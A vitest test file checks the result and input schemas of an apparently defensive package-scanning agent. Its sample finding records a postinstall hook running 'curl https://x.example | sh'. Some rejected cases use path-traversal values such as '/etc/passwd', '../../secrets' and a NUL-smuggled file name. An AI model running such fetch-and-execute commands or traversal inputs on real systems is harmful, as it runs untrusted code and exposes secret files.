import { describe, expect, it } from 'vitest';
import { LIMITS } from '../limits.js';
import { AgentFinding, AgentInput, AgentResult } from './agent-run.js';
import { REMOVE, expectAccepted, expectRejectedAt, withChange } from '../test-support/schema-cases.js';

const finding = {
  type: 'static',
  category: 'install_script',
  severity: 'HIGH',
  title: 'postinstall runs "curl https://x.example | sh"',
  file: 'package.json',
  line: 7,
  evidence: 'curl https://x.example | sh',
};
const result = { verdict: 'BLOCK', risk_score: 90, findings: [finding] };

describe('AgentResult', () => {
  it('accepts a result with line and evidence, and one without', () => {
    expect(expectAccepted(AgentResult, result)).toEqual(result);
    const bare = withChange(withChange(result, ['findings', 0, 'line'], REMOVE), ['findings', 0, 'evidence'], REMOVE);
    expect(expectAccepted(AgentResult, bare)).toEqual(bare);
  });

  it('accepts any file name an artifact can hold: the artifact itself, dots inside names, control characters', () => {
    for (const file of ['.', 'package.json', 'lib/..hidden/x.js', 'a/.../b', 'odd\nname.js', ' spaced /x']) {
      expectAccepted(AgentResult, withChange(result, ['findings', 0, 'file'], file));
    }
  });

  it('drops keys it does not know, at the top and in findings', () => {
    const extended = { ...result, notes: 'x', findings: [{ ...finding, confidence: 0.9 }] };
    expect(expectAccepted(AgentResult, extended)).toEqual(result);
  });

  it.each([
    ['verdict', ['verdict'], 'block'],
    ['risk_score above 100', ['risk_score'], 101],
    ['fractional risk_score', ['risk_score'], 12.5],
    ['severity', ['findings', 0, 'severity'], 'CRITICAL'],
    ['line 0', ['findings', 0, 'line'], 0],
    ['missing file', ['findings', 0, 'file'], REMOVE],
    ['absolute file', ['findings', 0, 'file'], '/etc/passwd'],
    ['file stepping out with ..', ['findings', 0, 'file'], 'lib/../../secrets'],
    ['file that is ..', ['findings', 0, 'file'], '..'],
    ['file with a NUL', ['findings', 0, 'file'], 'package.json\u0000.txt'],
    ['long evidence', ['findings', 0, 'evidence'], 'x'.repeat(LIMITS.maxFindingTextLength + 1)],
  ] as const)('rejects a bad %s, naming the path', (_name, path, value) => {
    expectRejectedAt(AgentResult, withChange(result, path, value), path);
  });

  it('takes at most as many findings as one attestation carries', () => {
    const many = { ...result, findings: Array.from({ length: LIMITS.maxFindingsPerAttestation + 1 }, () => finding) };
    expectRejectedAt(AgentResult, many, ['findings']);
  });

  it('AgentFinding is an attestation finding plus line and evidence', () => {
    expect(Object.keys(AgentFinding.shape).sort()).toEqual(['category', 'evidence', 'file', 'line', 'severity', 'title', 'type']);
  });
});

describe('AgentInput', () => {
  const input = {
    format: 'vigil-agent-input/1',
    track: 'packages',
    artifact: { dir: '/tmp/a/package', sha256: `sha256:${'ab'.repeat(32)}`, bundle_hash: 'packages/npm/left-pad' },
    scratch_dir: '/tmp/a/scratch',
    budget: { wall_ms: 60000, cpu_ms: 30000, memory_bytes: 536870912, output_bytes: 1048576 },
  };

  it('accepts the documented input, and nulls for a local scan', () => {
    expect(expectAccepted(AgentInput, input)).toEqual(input);
    const local = withChange(withChange(input, ['artifact', 'sha256'], null), ['artifact', 'bundle_hash'], null);
    expect(expectAccepted(AgentInput, local)).toEqual(local);
  });

  it('rejects another format and an unknown track', () => {
    expectRejectedAt(AgentInput, withChange(input, ['format'], 'vigil-agent-input/2'), ['format']);
    expectRejectedAt(AgentInput, withChange(input, ['track'], 'containers'), ['track']);
  });
});
